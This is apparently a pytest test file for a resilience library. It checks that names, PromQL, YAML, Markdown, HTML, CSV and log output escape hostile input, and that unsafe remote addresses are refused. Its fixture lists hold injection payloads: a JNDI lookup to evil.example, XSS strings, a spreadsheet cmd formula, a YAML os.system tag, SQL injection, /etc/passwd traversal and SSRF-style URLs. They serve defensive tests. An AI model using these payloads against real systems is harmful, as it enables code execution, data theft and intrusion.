"""Names, labels and addresses that would be obeyed somewhere: in queries, files, pages, logs, tables, and by what asks for an address."""

from __future__ import annotations

import codecs
import csv
import io
import re
import threading
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
import yaml as pyyaml

from somaresil import SLO, ConfigurationError, ManualClock, Resilience
from somaresil.dashboard import BearerToken
from somaresil.dashboard.plain import missing_page, plain_page
from somaresil.eventtext import harmless
from somaresil.gameday import remote as gameday
from somaresil.gate import report as gate
from somaresil.integrations import prometheus_store
from somaresil.integrations.evidence import EvidencePush, ScrapeSource
from somaresil.integrations.prometheus_query import PrometheusQuery
from somaresil.markdown import plain, table
from somaresil.remote import Impossible, Remote, clean
from somaresil.render import falco
from somaresil.sla import render as sla
from somaresil.slo.rules import text as rules
from somaresil.verdict.promql import BadQuery, evaluate

TOKEN = "injection-0123456789-abcdefghijklm"
MARK = "<script>alert('x')</script>"
NASTY = (
    'up"} or vector(1) #',
    'up",slo=~".*',
    "up\\",
    'up\\"} or on() vector(1)',
    "up\n  - alert: Forged",
    "up\r\n::error::forged",
    "up\x00",
    "up\x1b[2J\x1b]0;owned\x07",
    "up\u202egnp.exe",
    "up\u2028next\u0085line",
    "{{ .Labels }}",
    "{{ query `up` }}",
    "${jndi:ldap://evil.example/a}",
    "%(name)s %n",
    MARK,
    "\"><img src=x onerror=alert('x')>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "[click](http://evil.example)",
    "![pixel](http://evil.example/x.png)",
    "| a | b |",
    "`code` **bold** @everyone #1",
    '=HYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "!!python/object/apply:os.system ['true']",
    "&a [*a]",
    "- x: {y",
    "a: b # c",
    "]]>",
    "--",
    "../../etc/passwd",
    "'; DROP TABLE slos; --",
    "",
    " ",
)
HARMLESS = {"../../etc/passwd", "--"}
"""As names: they have no other characters than names have, and a name is no path anywhere."""
nasty = pytest.mark.parametrize("text", NASTY, ids=ascii)


@pytest.mark.parametrize("text", [text for text in NASTY if text not in HARMLESS], ids=ascii)
@pytest.mark.parametrize("make", [lambda name: SLO(name, 99.0), Resilience, lambda name: Resilience("tests").guard(name)])
def test_no_name_of_ours_can_be_one_of_them(make, text):
    """What could be obeyed somewhere is no name: the places that show names escape them all the same."""
    with pytest.raises(ConfigurationError):
        made = make(text)
        assert made is None


@nasty
@pytest.mark.parametrize("quote", [rules.quoted, prometheus_store._quoted])
def test_a_value_in_promql_is_one_string_and_says_what_was_given(quote, text):
    said = quote(text)
    assert re.fullmatch(r'"(?:[^"\\\x00-\x1f]|\\["\\]|\\U[0-9a-f]{8})*"', said)
    assert codecs.decode(said[1:-1].encode("raw_unicode_escape"), "unicode_escape") == text


@nasty
def test_a_value_in_yaml_is_one_string_wherever_it_stands(text):
    given = {"a": text, "b": {"c": text, "d": [text, {"e": text}]}, "f": f"line\n{text}"}
    assert pyyaml.safe_load(rules.yaml(given)) == given


@nasty
def test_a_template_of_prometheus_is_left_as_text(text):
    assert "{{" not in rules.template(text).replace('{{"{{"}}', "")


@nasty
def test_a_value_in_a_rule_of_falco_stays_within_its_string(text):
    said = falco._quoted(f'proc.name = "{falco._text(text)}"')
    condition = pyyaml.safe_load(said)
    assert re.fullmatch(r'proc\.name = "(?:[^"\\]|\\["\\])*"', condition)
    assert condition.isprintable()


@nasty
def test_markdown_shows_it_and_means_nothing(text):
    assert not re.search(r"(?<!\\)(?:\\\\)*[`*_{}\[\]()<>#+!|~&:@-]", plain(text))
    assert plain(text).isprintable()
    (_, _, row, end) = table(("a", "b"), [(text, text)])
    assert len(re.findall(r"(?<!\\)\|", re.sub(r"\\\\", "", row))) == 3
    assert end == ""


class Seen(HTMLParser):
    """The elements of a page, what they do, and its text."""

    def __init__(self, page):
        super().__init__()
        self.elements, self.attributes, self.text = set(), set(), ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}
        assert not any(name in {"href", "src"} and (value or "").startswith(("javascript:", "http")) for name, value in attrs)

    def handle_data(self, data):
        self.text += data


@nasty
def test_a_page_shows_it_as_text(text):
    names = (
        "name",
        "state",
        "kind",
        "target",
        "breaker",
        "problem",
        "reason",
        "verdict",
        "phase",
        "version",
        "checksum",
        "method",
        "route",
    )
    tables = ("sources", "guards", "routes", "objectives", "experiments", "canaries")

    def page(word):
        return plain_page({"service": word, "instance": word, **{name: [dict.fromkeys(names, word)] for name in tables}})

    seen, empty = Seen(page(text)), Seen(page("x"))
    assert (seen.elements, seen.attributes) == (empty.elements, empty.attributes)
    assert text.strip() in seen.text or not text.isprintable()
    assert Seen(missing_page(text, 1)).elements == Seen(missing_page("x", 1)).elements


@nasty
def test_a_spreadsheet_takes_no_cell_for_a_formula(text):
    ((cell, number),) = csv.reader(io.StringIO(sla._csv(("a", "b"), [(text, "-1.5%")]).partition("\n")[2], newline=""))
    assert not cell.startswith(("=", "+", "@", "\t", "\r"))
    assert not cell.startswith("-")
    assert cell in {text, f"'{text}"}
    assert number == "-1.5%"


@nasty
def test_a_log_line_and_a_terminal_line_stay_one_and_obey_nothing(text):
    for said in (harmless(text), harmless(text * 100), clean(text)):
        assert said.isprintable()
        assert len(said) <= max(200, len(text))


@nasty
def test_an_annotation_of_a_workflow_is_one_command(text):
    for said in (gate._data(text), gate._property(text)):
        assert len(said.splitlines()) <= 1
        assert said.isprintable()
    assert not {":", ","} & {*gate._property(text)}


@nasty
def test_a_query_of_the_verdict_app_is_understood_or_refused_and_finds_nothing_else(text):
    resilience = Resilience("tests", clock=ManualClock())
    for query in (text, f'somaresil_burn_rate{{slo="{text}"}}', f"somaresil_burn_rate{{{text}}}", f"vector({text})"):
        assert _found(query, resilience) == []


def _found(query, resilience):
    try:
        return evaluate(query, [], resilience)
    except BadQuery:
        return []


# -- addresses ----------------------------------------------------------------------------------------------------------------------------

PASSWORD = "hunter2-in-the-address"
ADDRESSES = (
    "",
    "service",
    "//service/",
    "/etc/passwd",
    "file:///etc/passwd",
    "FILE:///etc/passwd",
    "gopher://service:70/_x",
    "ftp://service/x",
    "dict://service:11211/",
    "data:text/plain,x",
    "javascript:alert(1)",
    "unix:///var/run/docker.sock",
    "http:service",
    "http://",
    "http:///path",
    "http://:80/",
    "http://[::1",
    "http://service:port/",
    "http://service:99999/",
    f"http://user:{PASSWORD}@service/",
    f"http://service@{PASSWORD}.evil.example/",
    "http://service/?a=b",
    "http://service/#fragment",
)
OPTIONS = {
    "remote": lambda url: Remote("app", url=url, url_variable="NO_SUCH_URL", token_variable="THE_TOKEN", timeout=1.0),
    "game day": lambda url: gameday.RemoteTarget([gameday.Remote(url, token_env="THE_TOKEN")]),
    "peers": lambda url: Resilience("tests").dashboard(auth=BearerToken(TOKEN), peers=[url], peer_token=TOKEN),
    "scraped": ScrapeSource,
    "pushed": EvidencePush,
    "asked": lambda url: PrometheusQuery(url, "up"),
}


@pytest.mark.parametrize("option", [*OPTIONS])
@pytest.mark.parametrize("url", ADDRESSES, ids=lambda url: url.replace("/", "-") or "nothing")
def test_an_address_that_is_none_of_a_server_of_ours_is_refused_before_anybody_is_asked(monkeypatch, option, url):
    """And a password in one is not repeated, for errors end in logs."""
    monkeypatch.setenv("THE_TOKEN", TOKEN)
    with pytest.raises((ConfigurationError, Impossible)) as refused:
        OPTIONS[option](url)
    assert PASSWORD not in str(refused.value)
    assert TOKEN not in str(refused.value)


class Elsewhere(BaseHTTPRequestHandler):
    """Sends everybody on, and remembers who came and who arrived."""

    def _go(self):
        self.server.asked.append(self.path)
        self.rfile.read(int(self.headers.get("content-length") or 0))
        self.send_response(307)
        self.send_header("location", f"http://127.0.0.1:{self.server.server_port}/arrived")
        self.send_header("content-length", "0")
        self.end_headers()

    do_GET = do_POST = _go  # noqa: N815 - so the server calls them

    def log_message(self, *_):
        pass


@pytest.fixture
def elsewhere():
    server = HTTPServer(("127.0.0.1", 0), Elsewhere)
    server.asked = []
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def test_nobody_is_followed_to_another_place(monkeypatch, elsewhere):
    """What is asked, and with which token, is seen by the server that was named and by no other."""
    monkeypatch.setenv("THE_TOKEN", TOKEN)
    url = f"http://127.0.0.1:{elsewhere.server_port}"
    remote = Remote("app", url=url, url_variable="NO_SUCH_URL", token_variable="THE_TOKEN", timeout=5.0)
    for method in ("GET", "POST"):
        with pytest.raises(Impossible):
            remote.ask(method, "/a")
    with pytest.raises(Impossible):
        remote.stream("/b", silence=5.0)
    with pytest.raises(OSError, match="307"):
        EvidencePush(f"{url}/c", token_env="THE_TOKEN")({"form": 1})
    assert elsewhere.asked == ["/a", "/a", "/b", "/c"]


def test_a_page_that_obeys_is_noticed():
    """Or the test of pages finds nothing whatever they show."""
    assert "script" in Seen(MARK).elements
    assert "onerror" in Seen(NASTY[15]).attributes
